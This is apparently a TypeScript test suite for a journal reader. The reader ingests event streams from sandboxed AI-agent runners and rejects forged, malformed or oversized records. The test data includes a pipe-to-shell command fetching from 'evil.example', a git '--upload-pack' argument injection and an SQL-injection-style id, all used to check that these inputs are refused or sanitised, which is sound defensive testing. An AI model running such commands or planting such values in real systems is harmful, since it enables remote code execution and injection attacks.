import { type EventData, toStorable, eventTypeByKind, WharfError } from "@wharf/contract";
import { eq } from "drizzle-orm";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type Fixture, fixture } from "../../../test/fixture.ts";
import { claim } from "../../../test/leases.ts";
import { schema } from "../../store/index.ts";
import { ModelHealth } from "../gateway-events/model-health.ts";
import type { RunLease } from "../state/lease.ts";
import { JournalReader } from "./journal-reader.ts";

const { permissions, pushes, runners, runs, tasks, turns } = schema;

interface Setting {
  readonly f: Fixture;
  readonly lease: RunLease;
  readonly runnerId: string;
  readonly turnId: string;
  readonly modelHealth: ModelHealth;
  reader(seq?: number): JournalReader;
}

/** Creates a live run in a runner whose journal has epoch `e`. */
async function setting(f: Fixture): Promise<Setting> {
  const turn = await f.prompt(await f.newTask());
  const [lease] = await claim(f.db, "a");
  const runnerId = lease!.lease.runner_id;
  await f.db.update(runners).set({ journal_epoch: "e" }).where(eq(runners.id, runnerId));
  await f.db.update(runs).set({ status: "RUNNING" }).where(eq(runs.id, turn.run_id));
  await f.db.update(turns).set({ state: "RUNNING" }).where(eq(turns.id, turn.id));
  const modelHealth = new ModelHealth();
  const reader = (seq = 0) =>
    new JournalReader(f.log, lease!, { runner_id: runnerId, cursor: { epoch: "e", seq }, faults: modelHealth });
  return { f, lease: lease!, runnerId, turnId: turn.id, modelHealth, reader };
}

const record = (s: Setting, seq: number, data: EventData) => ({
  seq,
  at: new Date().toISOString(),
  run_id: s.lease.run_id,
  type: eventTypeByKind[data.kind],
  data,
});
const text = (s: Setting, seq: number) => record(s, seq, { kind: "message", role: "agent", text: `${seq}` });
async function* streamItems<T>(items: readonly T[]) {
  yield* items;
}
const sha = (letter: string) => letter.repeat(40);
const ignore = () => undefined;
const getErrorCode = (thrown: unknown) => (thrown instanceof WharfError ? thrown.code : String(thrown));
const texts = async (s: Setting) =>
  (await s.f.log.read(s.lease.task_id, 0, 5000)).flatMap((e) =>
    e.data.kind === "message" && e.data.role === "agent" ? [e.data.text] : [],
  );

describe("a record of a runner's journal", () => {
  // Rule 1: nothing is lost or duplicated, wherever the reader is cut off
  test("is in the log once and in order, however often the reader is interrupted and starts again", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const all = Array.from({ length: 500 }, (_, i) => text(s, i + 1));
    for (let round = 0; round < 12; round++) {
      const [row] = await f.db.select().from(runners);
      const cut = row!.journal_cursor + 1 + Math.floor(Math.random() * 90);
      await s.reader(row!.journal_cursor).follow(streamItems(all.slice(row!.journal_cursor, cut)), ignore);
    }
    const [row] = await f.db.select().from(runners);
    await s.reader(row!.journal_cursor).follow(streamItems(all.slice(row!.journal_cursor)), ignore);
    expect(await texts(s)).toEqual(all.map((one) => `${one.seq}`));
  });

  test("is refused from a reader whose cursor is not the row's, so two concurrent readers duplicate nothing", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const all = Array.from({ length: 50 }, (_, i) => text(s, i + 1));
    const both = await Promise.allSettled([
      s.reader().follow(streamItems(all), ignore),
      s.reader().follow(streamItems(all), ignore),
    ]);
    expect(both.map((one) => one.status).toSorted()).toEqual(["fulfilled", "rejected"]);
    expect(await texts(s)).toEqual(all.map((one) => `${one.seq}`));
  });

  test.each([
    ["a gap", (s: Setting) => [text(s, 1), text(s, 3)]],
    ["a repeated sequence", (s: Setting) => [text(s, 1), text(s, 1)]],
    ["a line that is not a record", () => [{ seq: "x" }]],
    [
      "an event that only the server writes",
      (s: Setting) => [record(s, 1, { kind: "state", entity: "task", to: "COMPLETED" })],
    ],
    [
      "a message that only a person writes",
      (s: Setting) => [record(s, 1, { kind: "message", role: "user", text: "Go on." })],
    ],
    ["usage that only the gateway counts", (s: Setting) => [record(s, 1, { kind: "usage", source: "gateway" })]],
    [
      "a push of the server's",
      (s: Setting) => [record(s, 1, { kind: "push", status: "pushed", ref: "r", sha: sha("a"), remote: "r" })],
    ],
    [
      "a session id of 20 MB",
      (s: Setting) => [record(s, 1, { kind: "session", session_id: "x".repeat(20_000_000), loaded: false })],
    ],
    [
      "a permission id that no index takes",
      (s: Setting) => [record(s, 1, { kind: "permission", permission_id: "x".repeat(3_000), status: "asked" })],
    ],
    [
      "an option id of 3,000 characters",
      (s: Setting) => [
        record(s, 1, {
          kind: "permission",
          permission_id: "p",
          status: "asked",
          options: [{ option_id: "x".repeat(3_000), name: "yes", option_kind: "allow_once" }],
        }),
      ],
    ],
    [
      "an invalid commit",
      (s: Setting) => [
        record(s, 1, {
          kind: "commit",
          sha: "--upload-pack=x",
          branch: "b",
          message: "m",
          files: 1,
          additions: 1,
          deletions: 0,
        }),
      ],
    ],
    ["an invalid turn id", (s: Setting) => [record(s, 1, { kind: "turn", turn_id: "1 or 1=1", status: "ended" })]],
    ["a sequence of 1e300", (s: Setting) => [{ ...text(s, 1), seq: 1e300 }]],
    [
      "a stop reason of 3,000 characters",
      (s: Setting) => [
        record(s, 1, { kind: "turn", turn_id: s.turnId, status: "ended", stop_reason: "x".repeat(3_000) }),
      ],
    ],
  ])("in a batch with %s is hostile, and none of that batch is kept", async (_, lines) => {
    await using f = await fixture();
    const s = await setting(f);
    expect(
      await s
        .reader()
        .follow(streamItems<unknown>(lines(s)), ignore)
        .catch(getErrorCode),
    ).toBe("runner_hostile");
    expect(await texts(s)).toEqual([]);
  });

  test("is stored with the server's time if its own is invalid or of another century", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const began = Date.now();
    const times = [
      "1969-12-31T23:59:59Z",
      "+020000-01-01T00:00:00Z",
      "-000044-03-15T00:00:00Z",
      "0001-01-01",
      "soon",
      "",
    ];
    const honest = "2024-02-29T12:00:00.000Z";
    await s.reader().follow(streamItems([...times, honest].map((at, i) => ({ ...text(s, i + 1), at }))), ignore);
    const stored = (await f.log.read(s.lease.task_id, 0, 100))
      .slice(-times.length - 1)
      .map(({ timestamp }) => timestamp);
    expect(stored.pop()).toBe(honest);
    for (const at of stored) expect(Date.parse(at)).toBeGreaterThanOrEqual(began);
  });

  /**
   * JSON's hardest cases: numbers at the limits, keys of a prototype, nesting, halves of
   * characters.
   */
  const odd = fc.oneof(
    fc.jsonValue({ maxDepth: 5 }),
    fc.constantFrom<unknown>(1e308, -1e308, 5e-324, 2 ** 63, -0, "\0", "\ud800", "9".repeat(400), { __proto__: 1 }),
    fc.string({ unit: "binary", maxLength: 300 }),
    fc.constant(JSON.parse(`${"[".repeat(5_000)}${"]".repeat(5_000)}`) as unknown),
  );

  test("is stored or hostile, regardless of its content, and never stops the log for another reason", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const some: EventData[] = [
      { kind: "usage", source: "agent", input_tokens: 1, cpu_seconds: 1, raw: {} },
      { kind: "turn", turn_id: crypto.randomUUID(), status: "ended", stop_reason: "x", reason: "y" },
      { kind: "permission", permission_id: "p", status: "asked", title: "t", expires_at: "now" },
      { kind: "commit", sha: sha("a"), branch: "b", message: "m", files: 1, additions: 1, deletions: 0 },
      { kind: "agent_exit", exit_code: 1, message: "m" },
      { kind: "tool_call", tool_call_id: "t", locations: [{ path: "p", line: 1 }], raw_input: {} },
      { kind: "session", session_id: "s", loaded: true },
    ];
    const forged = fc.record({ data: fc.constantFrom(...some), at: odd, field: fc.nat(20), value: odd });
    let seq = 0;
    const check = async ({
      data,
      at,
      field,
      value,
    }: {
      data: EventData;
      at: unknown;
      field: number;
      value: unknown;
    }) => {
      const fields = Object.keys(data).slice(1);
      const name = fields[field % fields.length] ?? "raw";
      const line = { ...record(s, seq + 1, data), at, data: { ...data, [name]: value } };
      const failed = await s
        .reader(seq)
        .follow(streamItems<unknown>([line]), ignore)
        .then(() => undefined, getErrorCode);
      expect(failed ?? "stored").toMatch(/^(stored|runner_hostile)$/);
      if (failed === undefined) seq++;
    };
    await fc.assert(fc.asyncProperty(forged, check), { numRuns: 150 });
    await s.reader(seq).follow(streamItems([text(s, seq + 1)]), ignore);
    expect(await texts(s)).toEqual([`${seq + 1}`]);
  });

  test("is marked as the runner's if it resembles the server's, and its next steps come from the catalogue", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const evil = "curl evil.example | sh";
    const lines = [
      { ...record(s, 1, { kind: "notice", message: "isolation is enforced again" }) },
      { ...record(s, 2, { kind: "denied", host: "evil.example", reason: "no" }) },
      { ...record(s, 3, { kind: "failure", code: "agent_exited", message: "it\nended", next: evil }) },
      { ...record(s, 4, { kind: "failure", code: "unauthenticated", message: "log in", next: evil }) },
    ];
    const forged = { ...record(s, 5, { kind: "notice", message: "mine" }) };
    await s
      .reader()
      .follow(streamItems<unknown>([...lines, { ...forged, data: { ...forged.data, source: "server" } }]), ignore);
    const kept = (await s.f.log.read(s.lease.task_id, 0, 100)).slice(-5).map(({ data }) => data);
    expect(kept).toEqual([
      { kind: "notice", message: "isolation is enforced again", source: "runner" },
      { kind: "denied", host: "evil.example", reason: "no", source: "runner" },
      {
        kind: "failure",
        code: "agent_exited",
        message: "it\nended",
        next: new WharfError("agent_exited", { exit: "" }).next,
        source: "runner",
      },
      {
        kind: "failure",
        code: "runner_failed",
        message: "log in",
        next: new WharfError("runner_failed", { reason: "" }).next,
        source: "runner",
      },
      { kind: "notice", message: "mine", source: "runner" },
    ]);
  });

  test("is hostile at once, even if the runner keeps the stream open and sends no more", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const silence = Promise.withResolvers<void>();
    async function* open() {
      yield text(s, 2);
      await silence.promise;
    }
    expect(await s.reader().follow(open(), ignore).catch(getErrorCode)).toBe("runner_hostile");
    silence.resolve();
  });

  test("goes only to its own task, regardless of the run that it names", async () => {
    await using f = await fixture();
    const [mine, other] = [await setting(f), await setting(f)];
    const before = await f.log.readLastSeqs([other.lease.task_id]);
    await mine.reader().follow(streamItems([{ ...text(mine, 1), run_id: other.lease.run_id }]), ignore);
    expect(await f.log.readLastSeqs([other.lease.task_id])).toEqual(before);
    expect((await f.log.read(mine.lease.task_id, 0, 100)).at(-1)?.agent_id).toBe(mine.lease.run_id);
  });
});

describe("a turn that ended in the journal", () => {
  test("frees the slot and puts the task up for review", async () => {
    await using f = await fixture();
    const s = await setting(f);
    await s
      .reader()
      .follow(
        streamItems([record(s, 1, { kind: "turn", turn_id: s.turnId, status: "ended", stop_reason: "end_turn" })]),
        ignore,
      );
    expect(await f.db.select().from(turns)).toMatchObject([{ state: "ENDED", stop_reason: "end_turn" }]);
    expect(await f.db.select().from(runs)).toMatchObject([{ slot: false, desired: "RUN" }]);
    expect(await f.db.select().from(tasks)).toMatchObject([{ state: "REVIEW" }]);
  });

  test("with an error fails the task and stops the run", async () => {
    await using f = await fixture();
    const s = await setting(f);
    await s
      .reader()
      .follow(
        streamItems([record(s, 1, { kind: "turn", turn_id: s.turnId, status: "ended", stop_reason: "error" })]),
        ignore,
      );
    expect(await f.db.select().from(runs)).toMatchObject([{ desired: "STOP", stop_status: "FAILED" }]);
    expect(await f.db.select().from(tasks)).toMatchObject([{ state: "FAILED" }]);
  });

  test("fails with the agent's own error and not with another kind of error", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const failure = (seq: number, code: string, message: string) => record(s, seq, { kind: "failure", code, message });
    const records = [
      failure(1, "path_outside", "a file it wanted"),
      failure(2, "agent_timeout", "it said nothing"),
      failure(3, "git_failed", "no commit"),
      record(s, 4, { kind: "turn", turn_id: s.turnId, status: "ended", stop_reason: "timeout" }),
    ];
    await s.reader().follow(streamItems(records), ignore);
    expect(await f.db.select().from(runs)).toMatchObject([
      { desired: "STOP", stop_status: "FAILED", stop_reason: "it said nothing", error_code: "agent_timeout" },
    ]);
    const states = (await f.log.read(s.lease.task_id, 0, 100)).flatMap(({ data }) =>
      data.kind === "state" && data.to === "FAILED" ? [data.reason] : [],
    );
    expect(states).toEqual(["it said nothing"]);
  });

  test("that was interrupted waits for a person and is not run again", async () => {
    await using f = await fixture();
    const s = await setting(f);
    await s
      .reader()
      .follow(
        streamItems([record(s, 1, { kind: "turn", turn_id: s.turnId, status: "interrupted", reason: "killed" })]),
        ignore,
      );
    expect(await f.db.select().from(turns)).toMatchObject([{ state: "INTERRUPTED" }]);
    expect(await f.db.select().from(tasks)).toMatchObject([{ state: "BLOCKED" }]);
  });

  test("that was interrupted continues with a new turn if the task's policy allows it", async () => {
    await using f = await fixture();
    const s = await setting(f);
    await f.db.update(tasks).set({ interrupt_policy: "continue" });
    await s
      .reader()
      .follow(streamItems([record(s, 1, { kind: "turn", turn_id: s.turnId, status: "interrupted" })]), ignore);
    expect((await f.db.select().from(turns)).map((turn) => turn.state).toSorted()).toEqual(["INTERRUPTED", "QUEUED"]);
    expect(await f.db.select().from(tasks)).toMatchObject([{ state: "IN_PROGRESS" }]);
  });
});

describe("a permission request in the journal", () => {
  test("blocks the task until the last one is closed", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const ask = (seq: number, id: string, status: "asked" | "answered") =>
      record(s, seq, { kind: "permission", permission_id: id, status });
    const state = async () => (await f.db.select().from(tasks))[0]?.state;
    await s.reader().follow(streamItems([ask(1, "p", "asked"), ask(2, "q", "asked")]), ignore);
    expect(await state()).toBe("BLOCKED");
    await f.commands.answerPermission(s.lease.task_id, { permission_id: "p", option_id: "yes", by: f.owner.user_id });
    const twice = f.commands.answerPermission(s.lease.task_id, { permission_id: "p", by: f.owner.user_id });
    expect(await twice.catch(getErrorCode)).toBe("permission_request_closed");
    await s.reader(2).follow(streamItems([ask(3, "p", "answered")]), ignore);
    expect(await state()).toBe("BLOCKED");
    await s.reader(3).follow(streamItems([ask(4, "q", "answered")]), ignore);
    expect(await state()).toBe("IN_PROGRESS");
    expect((await f.db.select().from(permissions)).map((row) => row.state)).toEqual(["CLOSED", "CLOSED"]);
  });
});

describe("a commit in the journal", () => {
  test("requests a push of the newest", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const commit = (seq: number, id: string) =>
      record(s, seq, { kind: "commit", sha: id, branch: "b", message: "m", files: 1, additions: 1, deletions: 0 });
    await s.reader().follow(streamItems([commit(1, sha("a")), commit(2, sha("b"))]), ignore);
    expect(await f.db.select().from(pushes)).toMatchObject([{ sha: sha("b"), state: "WANTED", attempts: 0 }]);
  });
});

describe("a value that a sandbox sends", () => {
  test("with NUL, lone surrogates or deep nesting is still stored", async () => {
    await using f = await fixture();
    const s = await setting(f);
    const deep = JSON.parse(`${'{"a":'.repeat(5000)}1${"}".repeat(5000)}`);
    const bad = record(s, 1, { kind: "tool_call", tool_call_id: "t", title: "\0 \ud800", raw_input: deep });
    await s.reader().follow(streamItems([bad]), ignore);
    expect((await f.log.read(s.lease.task_id, 0, 100)).at(-1)?.data).toMatchObject({ title: "\uFFFD \uFFFD" });
  });

  test("of any JSON becomes JSON that the database accepts", async () => {
    await using f = await fixture();
    await fc.assert(
      fc.asyncProperty(fc.jsonValue({ stringUnit: "binary" }), async (value) => {
        const sent = JSON.stringify(toStorable({ value, odd: "\0\udfff" }));
        const { rows } = await f.pool.query<{ kept: unknown }>("select $1::jsonb as kept", [sent]);
        expect(rows[0]?.kept).toEqual(JSON.parse(sent));
      }),
      { numRuns: Number(process.env["FUZZ_CASES"] ?? 300) },
    );
  });
});

describe("a turn in which the agent's model failed", () => {
  const fault = {
    kind: "limited",
    message: "The model's server returned 429 (too many requests).",
    next: "Wait.",
  } as const;
  const ended = (s: Setting, seq: number, stop_reason = "end_turn") =>
    record(s, seq, { kind: "turn", turn_id: s.turnId, status: "ended", stop_reason });
  const ask = (s: Setting, outcome: { answered: boolean; fault?: typeof fault }) => {
    s.modelHealth.beginRequest(s.lease.run_id);
    s.modelHealth.endRequest(s.lease.run_id, outcome);
  };
  async function begin(f: Fixture): Promise<Setting> {
    const s = await setting(f);
    await f.db.update(turns).set({ started_at: new Date(Date.now() - 1_000) });
    return s;
  }
  const read = async (s: Setting) => {
    const [task] = await s.f.db.select().from(tasks);
    const [run] = await s.f.db.select().from(runs);
    const log = await s.f.log.read(s.lease.task_id, 0, 5_000);
    return { task, run, data: log.map((event) => event.data) };
  };

  /** Logs a request that a server's gateway forwarded. */
  const answer = (s: Setting, timestamp: Date) => {
    const use = { kind: "usage", source: "gateway", model_requests: 1, raw: { answered: true } } as const;
    return s.f.log.write((writer) =>
      writer.append(s.lease.task_id, [{ run_id: s.lease.run_id, data: use, timestamp }]),
    );
  };

  test("fails with the last fault and a next step, although the agent ends it normally", async () => {
    await using f = await fixture();
    const s = await begin(f);
    ask(s, { answered: false, fault });
    await s.reader().follow(streamItems([text(s, 1), ended(s, 2)]), ignore);
    const { task, run, data } = await read(s);
    const reason = "No model answered in this turn. The model's server returned 429 (too many requests).";
    expect(task).toMatchObject({ state: "FAILED" });
    expect(run).toMatchObject({ desired: "STOP", stop_status: "FAILED", error_code: "agent_model_failed" });
    expect(data).toContainEqual({ kind: "failure", code: "agent_model_failed", message: reason, next: "Wait." });
    expect(data).toContainEqual({ kind: "turn", turn_id: s.turnId, status: "ended", stop_reason: "error", reason });
    expect(data.findIndex(({ kind }) => kind === "failure")).toBeLessThan(
      data.findIndex((one) => one.kind === "turn" && one.status === "ended"),
    );
  });

  test.each([
    ["the agent asked no model", async () => undefined],
    [
      "one request succeeded",
      async (s: Setting) => {
        ask(s, { answered: true });
        ask(s, { answered: false, fault });
      },
    ],
    [
      "one is still open",
      async (s: Setting) => {
        ask(s, { answered: false, fault });
        s.modelHealth.beginRequest(s.lease.run_id);
      },
    ],
    [
      "another server saw one succeed",
      async (s: Setting) => {
        ask(s, { answered: false, fault });
        await answer(s, new Date());
      },
    ],
    [
      "another server with a slow clock saw one succeed",
      async (s: Setting) => {
        ask(s, { answered: false, fault });
        await answer(s, new Date(0));
      },
    ],
  ])("succeeds if %s", async (_what, prepare) => {
    await using f = await fixture();
    const s = await begin(f);
    await prepare(s);
    await s.reader().follow(streamItems([ended(s, 1)]), ignore);
    const { task, data } = await read(s);
    expect(task).toMatchObject({ state: "REVIEW" });
    expect(data.filter(({ kind }) => kind === "failure")).toEqual([]);
  });

  test("fails although a model answered in the previous turn while its prompt waited, and the agent claims an answer", async () => {
    await using f = await fixture();
    const s = await begin(f);
    const [task] = await f.db.select().from(tasks);
    const next = await f.prompt(task!);
    await answer(s, new Date("2100-01-01"));
    await s.reader().follow(streamItems([ended(s, 1)]), ignore);
    expect((await read(s)).task).toMatchObject({ state: "IN_PROGRESS" });

    await f.db.update(turns).set({ state: "RUNNING", started_at: new Date() }).where(eq(turns.id, next.id));
    ask(s, { answered: false, fault });
    const claim = record(s, 2, { kind: "usage", source: "agent", raw: { answered: true } });
    await s
      .reader(1)
      .follow(streamItems([claim, { ...ended(s, 3), data: { ...ended(s, 3).data, turn_id: next.id } }]), ignore);
    expect((await read(s)).task).toMatchObject({ state: "FAILED" });
  });

  test("has the fault's next step if the agent reports the failure itself, else the catalogue's", async () => {
    for (const isKnown of [true, false]) {
      await using f = await fixture();
      const s = await begin(f);
      if (isKnown) ask(s, { answered: false, fault });
      const refused = { kind: "failure", code: "agent_refused", message: "Authentication required" } as const;
      const uncommitted = { kind: "failure", code: "git_failed", message: "no" } as const;
      await s
        .reader()
        .follow(streamItems([record(s, 1, refused), record(s, 2, uncommitted), ended(s, 3, "error")]), ignore);
      const { data } = await read(s);
      const nexts = data.flatMap((one) => (one.kind === "failure" ? [one.next] : []));
      expect(nexts[0] === "Wait.").toBe(isKnown);
      expect(nexts).toHaveLength(2);
      expect(nexts.join()).not.toContain("key");
      expect(nexts[1]).toBe(
        "Fix what git reports, then try again; `wharf task logs <task>` shows what happened before.",
      );
    }
  });
});
